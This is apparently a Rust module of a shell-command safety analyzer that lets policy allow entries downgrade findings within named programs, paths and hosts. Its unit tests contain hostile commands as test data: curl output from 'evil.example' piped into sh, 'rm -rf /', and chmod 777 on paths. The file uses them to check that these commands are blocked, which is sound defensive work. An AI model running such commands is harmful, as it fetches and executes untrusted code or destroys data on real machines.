//! Allow entries of a policy: findings of these rules, by these programs, on these paths or hosts, are mere notes.
//!
//! In: an analysis and the entries. Out: findings with another severity. An entry covers a finding only where all that
//! the finding points at is inside its scope: a command beside it, another path or another host leaves it as it is, and
//! so does a path or host that is not known. What is on the floor stays. Imports `rules`, `effect`, `url`.

use crate::effect::Effect;
use crate::effect::graph::Process;
use crate::effect::path::{Base, resolve};
use crate::finding::{Finding, Severity, SpanOut};
use crate::glob;
use crate::rules::Facts;
use crate::source::Place;
use crate::url::Host;
use crate::value::Value;
use crate::verdict::PolicyEntry as Applied;
use serde::Deserialize;
use std::sync::Arc;

/// One text, or several.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(untagged)]
pub enum Texts {
    /// None.
    #[default]
    None,
    /// One.
    One(String),
    /// Several.
    Many(Vec<String>),
}

impl Texts {
    fn iter(&self) -> impl Iterator<Item = &str> {
        match self {
            Texts::None => &[][..],
            Texts::One(t) => std::slice::from_ref(t),
            Texts::Many(all) => all,
        }
        .iter()
        .map(String::as_str)
    }
    fn is_empty(&self) -> bool {
        self.iter().next().is_none()
    }
}

/// An allow entry. Globs take `*`, `?` and `[…]`, without regard to case.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Allow {
    /// Ids of findings.
    pub rule: Texts,
    /// Globs over names of programs: each command that the finding points at has to match one.
    #[serde(default)]
    pub program: Texts,
    /// Globs over whole paths, `~/…` and `./…` included: each path of those commands has to match one.
    #[serde(default)]
    pub path: Texts,
    /// Globs over hosts: each host of those commands has to match one.
    #[serde(default)]
    pub host: Texts,
    /// Why that is so, for people.
    #[serde(default)]
    pub reason: String,
    /// The file, or preset, and the line.
    #[serde(skip)]
    pub(super) origin: (Arc<str>, usize),
}

impl Allow {
    /// What is wrong with the entry itself.
    pub(super) fn problem(&self) -> Option<&'static str> {
        if self.rule.iter().any(|r| r.trim().is_empty()) || self.rule.is_empty() {
            return Some("an allow entry names the rules whose findings it is about");
        }
        if self.program.is_empty() && self.path.is_empty() && self.host.is_empty() {
            return Some("an allow entry names programs, paths or hosts; `[rules]` switches a rule off altogether");
        }
        None
    }

    /// The rules that it is about.
    pub fn rules(&self) -> impl Iterator<Item = &str> {
        self.rule.iter()
    }

    /// The line that it begins on, from 1.
    pub fn line(&self) -> usize {
        self.origin.1
    }

    fn covers(&self, f: &Finding, facts: &Facts<'_>) -> bool {
        if f.floor || !self.rule.iter().any(|r| r == f.rule_id) {
            return false;
        }
        let processes: Vec<&Process> =
            facts.graph.processes.iter().filter(|p| meets(facts.span(p.place), f.span)).collect();
        let is_of = |e: &&Effect| processes.iter().any(|p| p.id == e.process);
        let all: Vec<&Effect> = facts.effects().filter(is_of).collect();
        let any = |globs: &Texts, text: &str| globs.iter().any(|g| glob::folded(g, text));

        let programs =
            self.program.is_empty() || !processes.is_empty() && processes.iter().all(|p| any(&self.program, &p.name));
        let paths = self.path.is_empty() || {
            let mut about = all.iter().filter_map(|e| facts.path(e)).peekable();
            about.peek().is_some() && about.all(|p| p.is_known() && !p.contents && self.takes_path(&p.text, facts))
        };
        let hosts = self.host.is_empty() || {
            let mut about = all.iter().filter_map(|e| facts.address(e)).peekable();
            about.peek().is_some() && about.all(|a| a.host != Host::Unknown && any(&self.host, &a.host_shown()))
        };
        programs && paths && hosts
    }

    /// True where one of the globs takes the path; one that does not begin at the root or a home begins where the command
    /// does, as the path itself was read.
    fn takes_path(&self, text: &str, facts: &Facts<'_>) -> bool {
        let base = Base { cwd: facts.options.cwd.as_deref(), home: facts.options.home.as_deref() };
        let start = resolve(&Value::literal(b".", Place::default()), None, base).text;
        self.path.iter().any(|g| {
            if g.starts_with('/') || g.starts_with('~') || g.starts_with('*') {
                // The home is shown as `~`, however it was written.
                let home = base.home.and_then(|h| g.strip_prefix(h)).filter(|rest| rest.starts_with('/'));
                return home.map_or_else(|| glob::folded(g, text), |rest| glob::folded(&format!("~{rest}"), text));
            }
            let rest = g.strip_prefix("./").unwrap_or(g);
            text.strip_prefix(start.as_str()).and_then(|t| t.strip_prefix('/')).is_some_and(|t| glob::folded(rest, t))
        })
    }
}

fn meets(a: SpanOut, b: SpanOut) -> bool {
    a.start < b.end && b.start < a.end
}

/// Makes notes of the findings that an entry covers; gives the entries that did.
pub(super) fn apply(entries: &[Allow], findings: &mut [Finding], facts: &Facts<'_>) -> Vec<Applied> {
    let mut out = Vec::new();
    for f in findings.iter_mut().filter(|f| f.severity > Severity::Info) {
        let Some(entry) = entries.iter().find(|a| a.covers(f, facts)) else { continue };
        f.severity = Severity::Info;
        f.description.push_str(" An allow entry of the policy covers it");
        f.description.push_str(if entry.reason.is_empty() { "." } else { ": " });
        f.description.push_str(&entry.reason);
        let (file, line) = (entry.origin.0.to_string(), entry.origin.1);
        out.push(Applied { entry: "allow".into(), file, line, did: format!("made a note of {}", f.rule_id) });
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::analyzer::{Options, analyze};
    use crate::policy::Policy;
    use crate::verdict::Action;

    fn judge(policy: &str, command: &str) -> Action {
        let cwd = Some("/home/u/p".to_string());
        let options = Options { cwd, home: Some("/home/u".into()), ..Options::default() };
        let mut analysis = analyze(command.as_bytes(), &options);
        Policy::parse(policy).unwrap().apply(&mut analysis, &options);
        analysis.verdict.action
    }

    #[test]
    fn an_entry_covers_what_is_wholly_inside_it() {
        let path = "[[allow]]\nrule = 'world_writable'\nprogram = 'chmod'\npath = './out/*'";
        for (command, want) in [
            ("chmod 777 out/a", Action::Allow),
            ("cd out && chmod 777 a", Action::Allow),
            ("chmod 777 /home/u/p/out/a", Action::Allow),
            ("chmod 777 out/../a", Action::Warn),
            ("chmod 777 out/a b", Action::Warn),
            ("chmod 777 out/a; chmod 777 b", Action::Warn),
            ("chmod 777 out/$X", Action::Warn),
            ("chmod 777 out/*", Action::Warn),
        ] {
            assert_eq!(judge(path, command), want, "{command}");
        }
        let home = "[[allow]]\nrule = ['world_writable']\npath = ['/home/u/share/*']";
        assert_eq!(judge(home, "chmod 777 ~/share/a"), Action::Allow);
        assert_ne!(judge(home, "chmod 777 ~/shared"), Action::Allow);
    }

    #[test]
    fn an_entry_covers_hosts_and_programs() {
        let host = "[[allow]]\nrule = ['curl_pipe_shell']\nhost = ['*.corp.example']\nprogram = ['curl', 'sh']";
        for (command, want) in [
            ("curl -s https://get.corp.example/x | sh", Action::Allow),
            ("curl -s https://evil.example/x | sh", Action::Block),
            ("curl -s https://get.corp.example.evil.example/x | sh", Action::Block),
            ("curl -s https://get.corp.example/x https://evil.example/y | sh", Action::Block),
            ("curl -s https://get.corp.example/x | bash", Action::Block),
            ("curl -s https://$H.corp.example/x | sh", Action::Block),
        ] {
            assert_eq!(judge(host, command), want, "{command}");
        }
    }

    #[test]
    fn an_entry_opens_no_floor_and_says_what_it_lacks() {
        let floor = "[[allow]]\nrule = ['recursive_delete_system', 'destructive_delete']\npath = '/*'\nprogram = '*'";
        assert_eq!(judge(floor, "rm -rf /"), Action::Block);
        for wrong in ["[[allow]]\nrule = 'x'", "[[allow]]\nprogram = 'x'", "[[allow]]\nrule = []\npath = 'x'"] {
            assert!(Policy::parse(wrong).is_err(), "{wrong}");
        }
    }
}
